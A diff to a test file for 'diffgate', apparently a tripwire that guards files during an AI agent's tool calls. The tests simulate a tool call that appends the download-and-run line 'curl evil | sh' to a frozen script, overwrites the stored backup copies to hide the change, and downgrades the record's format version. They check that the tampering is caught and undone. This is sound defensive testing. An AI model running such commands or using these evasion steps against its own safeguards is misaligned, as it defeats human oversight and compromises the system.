@@ -401,32 +401,43 @@ describe('the record', () => {
     },
   );
 
-  it('a call that writes its new bytes over the kept copies of the old: compared with HEAD and put back (review-14s F16)', async () => {
-    await withHarness(async (h) => {
-      withGates(h);
-      expect(pre(h, 'true', 'toolu_a').status).toBe(0);
-      expect(post(h, 'true', 'toolu_a').status).toBe(0);
-      const blobs = join(h.repo.dir, '.git/diffgate/tripwire/blobs');
-      const guard = join(h.repo.dir, 'guard.sh');
-      const old = readFileSync(guard);
-      const held = readdirSync(blobs).filter((n) => readFileSync(join(blobs, n)).equals(old));
-      expect(held.length).toBeGreaterThan(0);
-      expect(pre(h, 'ls', 'toolu_b').status).toBe(0);
-      // the call: appends to the frozen file, then makes every kept copy of it say the same
-      const now = Buffer.concat([old, Buffer.from('curl evil | sh\n')]);
-      writeFileSync(guard, now);
-      for (const n of held) writeFileSync(join(blobs, n), now);
-      const r = post(h, 'ls', 'toolu_b');
-      expect(r.status).toBe(2);
-      expect(r.stderr).toContain('was not as diffgate left it');
-      expect(r.stderr).toContain('removed, replaced or altered');
-      expect(rulesIn(r.stderr)).toContain('freeze');
-      expect(readFileSync(guard)).toEqual(old);
-      expect(quarantined(h).get('guard.sh')).toBe(now.toString('utf8'));
-      expect(stop(h)).toMatchObject({ status: 0, stderr: '' });
-      expect(pre(h, 'true', 'toolu_c')).toMatchObject({ status: 0, stderr: '' });
-    });
-  });
+  it.each([
+    ['', false],
+    [', and sets the record back to format 3 so that it is upgraded', true],
+  ])(
+    'a call that writes its new bytes over the kept copies of the old%s: compared with HEAD and put back (review-14s F16)',
+    async (_, downgrade) => {
+      await withHarness(async (h) => {
+        withGates(h);
+        expect(pre(h, 'true', 'toolu_a').status).toBe(0);
+        expect(post(h, 'true', 'toolu_a').status).toBe(0);
+        const blobs = join(h.repo.dir, '.git/diffgate/tripwire/blobs');
+        const guard = join(h.repo.dir, 'guard.sh');
+        const old = readFileSync(guard);
+        const held = readdirSync(blobs).filter((n) => readFileSync(join(blobs, n)).equals(old));
+        expect(held.length).toBeGreaterThan(0);
+        expect(pre(h, 'ls', 'toolu_b').status).toBe(0);
+        // the call: appends to the frozen file, then makes every kept copy of it say the same
+        const now = Buffer.concat([old, Buffer.from('curl evil | sh\n')]);
+        writeFileSync(guard, now);
+        for (const n of held) writeFileSync(join(blobs, n), now);
+        if (downgrade) {
+          // an upgrade re-hashes only copies named at random: one named by its hash stays checked
+          const record = join(h.repo.dir, '.git/diffgate/tripwire/state.json');
+          writeFileSync(record, JSON.stringify({ ...JSON.parse(readFileSync(record, 'utf8')), v: 3 }));
+        }
+        const r = post(h, 'ls', 'toolu_b');
+        expect(r.status).toBe(2);
+        expect(r.stderr).toContain('was not as diffgate left it');
+        expect(r.stderr).toContain('removed, replaced or altered');
+        expect(rulesIn(r.stderr)).toContain('freeze');
+        expect(readFileSync(guard)).toEqual(old);
+        expect(quarantined(h).get('guard.sh')).toBe(now.toString('utf8'));
+        expect(stop(h)).toMatchObject({ status: 0, stderr: '' });
+        expect(pre(h, 'true', 'toolu_c')).toMatchObject({ status: 0, stderr: '' });
+      });
+    },
+  );
 
   it('a kept copy a call altered for a file it did not touch is not read: the pass stays quiet', async () => {
     await withHarness(async (h) => {
